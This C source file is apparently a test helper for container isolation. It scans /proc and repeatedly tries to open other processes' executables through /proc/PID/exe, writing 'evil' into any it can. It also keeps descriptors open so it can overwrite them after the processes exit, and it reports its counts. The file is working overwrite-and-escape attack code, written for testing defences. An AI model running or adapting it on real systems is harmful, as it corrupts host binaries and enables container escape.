/* SPDX-License-Identifier: Apache-2.0 */
/*
 * exewriter REPORT HELD: root of a container that shares the process ids with others tries to get a
 * writable fd to the programs that those run, over and over, until its standard input ends. For use
 * in a pid namespace of one's own: it writes to whatever it gets.
 *   REPORT gets lines "SEEN OPENED READ WRITTEN": processes seen, attempts to open one's program
 * for writing, programs that could be opened for reading (and were held, to be opened for writing
 * when the process has ended), programs written to; then "ERROR COUNT" of each error met. HELD is
 * made as soon as one could be opened for reading.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "../errname.h"

#define MAX_HELD   64
#define MAX_ERRORS 256

struct writer {
	unsigned long seen, opened, read, written;
	unsigned long errors[MAX_ERRORS];
	long last; /* newest process so far */
	const char *sign;
	int held[MAX_HELD];
	int n_held;
};

static void write_to(struct writer *writer, const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	writer->opened++;
	if (fd < 0) {
		writer->errors[errno < MAX_ERRORS ? errno : 0]++;
		return;
	}
	if (write(fd, "evil", 4) == 4)
		writer->written++;
	else
		writer->errors[errno < MAX_ERRORS ? errno : 0]++;
	(void)close(fd);
}

/* The program of a process that has ended can be written to by who has kept it open. */
static void write_to_held(struct writer *writer)
{
	char path[64];

	for (int i = 0; i < writer->n_held; i++) {
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", writer->held[i]);
		write_to(writer, path);
	}
}

static bool is_held(const struct writer *writer, int fd)
{
	struct stat a;
	struct stat b;

	if (fstat(fd, &a) < 0)
		return true;
	for (int i = 0; i < writer->n_held; i++)
		if (fstat(writer->held[i], &b) == 0 && a.st_ino == b.st_ino && a.st_dev == b.st_dev)
			return true;
	return writer->n_held == MAX_HELD;
}

static void attack(struct writer *writer, const char *pid)
{
	char path[300];
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && is_held(writer, fd)) {
		(void)close(fd);
	} else if (fd >= 0) {
		writer->held[writer->n_held++] = fd;
		writer->read++;
		(void)close(open(writer->sign, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	} else {
		writer->errors[errno < MAX_ERRORS ? errno : 0]++;
	}
	write_to(writer, path);
}

static void round_of(struct writer *writer, long first)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;

	while (dir != NULL && (entry = readdir(dir)) != NULL) {
		long pid = strtol(entry->d_name, NULL, 10);

		if (pid <= first)
			continue;
		if (pid > writer->last) {
			writer->last = pid;
			writer->seen++;
		}
		attack(writer, entry->d_name);
	}
	if (dir != NULL)
		(void)closedir(dir);
}

int main(int argc, char **argv)
{
	struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
	struct writer writer = {.last = getpid()};
	FILE *report;

	if (argc != 3)
		return 2;
	report = fopen(argv[1], "we");
	if (report == NULL)
		return 1;
	writer.sign = argv[2];
	while (poll(&input, 1, 0) == 0)
		round_of(&writer, getpid());
	write_to_held(&writer);
	(void)fprintf(report, "%lu %lu %lu %lu\n", writer.seen, writer.opened, writer.read,
		      writer.written);
	for (int i = 0; i < MAX_ERRORS; i++)
		if (writer.errors[i] > 0)
			(void)fprintf(report, "%s %lu\n", errname(i), writer.errors[i]);
	return fclose(report) != 0;
}
